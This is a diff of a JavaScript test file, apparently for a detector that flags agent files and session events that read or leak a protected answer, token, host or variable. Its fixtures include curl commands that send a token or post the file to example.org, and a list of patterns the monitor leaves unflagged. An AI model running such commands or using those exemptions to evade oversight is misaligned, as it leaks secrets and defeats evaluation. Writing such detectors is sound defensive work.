@@ -35,7 +35,7 @@ test.each([
   ['a value that is the answer', { 'answer.txt': `${value}\n` }, /^suspect answer\.txt/],
   ['a value in a program without ending', { solve: `#!/bin/sh\necho ${value}\n` }, /^suspect solve line 2/],
   ['code that opens it by name', { 'main.py': `open("${path}")\n` }, /^suspect main\.py line 1: names/],
-  ['code that opens it by parts', { 'main.py': `Path("a") / "${base}"\n` }, /^suspect main\.py line 1: names/],
+  ['code that loads it by its name', { 'main.js': `load( '${base}')\n` }, /^suspect main\.js line 1: names/],
   ['a makefile that shows it', { Makefile: `all:\n\tcat ${path}\n` }, /^suspect Makefile line 2: names/],
   ['code that asks its host', { 'main.sh': `curl http://${host}/\n` }, /^suspect main\.sh line 1: names/],
   ['code that asks for its variable', { 'main.py': `os.environ["${variable}"]\n` }, /^suspect main\.py line 1: names/],
@@ -53,6 +53,14 @@ test.each([
   ['a package of all', { 'backup.tgz': gzipSync(whole) }],
   ['a file in its place, written otherwise', { [path]: whole.replaceAll('\n', '\r\n') }],
   ['a clean-up script', { 'clean.sh': `rm -f ${path}\n` }],
+  ['a path that is put together', { 'main.py': `Path("a") / "${base}"\n` }],
+  ['a word about it', { 'main.py': `# NOTE: did not read ${path}\nx = 1  # read( ${path} )\n` }],
+  ['a report that shows one value', { 'REPORT.md': `I saw ${value} in ${path}, and left it alone.\n` }],
+  ['a report of its variable', { 'REPORT.md': `Your shell exports ${variable}=${environment[variable]}\n` }],
+  ['leaving it out', { 'a.sh': `find . -not -path './${path}' | xargs cat\ntar --exclude=${path} -cf x .\n` }],
+  ['a clean environment', { 'run.py': `os.environ.pop("${variable}")\nif k != "${variable}": pass\n` }],
+  ['the same for a shell script', { 'run.sh': `unset ${variable}; exec ./app "$@"\n` }],
+  ['an environment as JSON', { 'env.json': JSON.stringify(Object.fromEntries(shell)) }],
   [
     'a list of files',
     { 'setup.py': `setup(data_files=[("data", ["${path}"])])\n`, 'files.py': `FILES = ["${path}"]\n` },
@@ -86,6 +94,8 @@ test('its token or file, given to a program that sends, is suspect; in a host na
     run('curl', '-H', `Authorization: ${token}`, 'http://example.org/'),
     run('curl', '--data', `@${path}`, 'http://example.org/'),
     run('bash', '-c', `grep -r ${host} .`),
+    run('ssh', 'localhost', 'ls', path),
+    run('openssl', 'dgst', '-sha256', path),
   ];
   expect(found({}, { events })).toEqual([
     expect.stringMatching(/^violation session\/step 1, event 1 /),
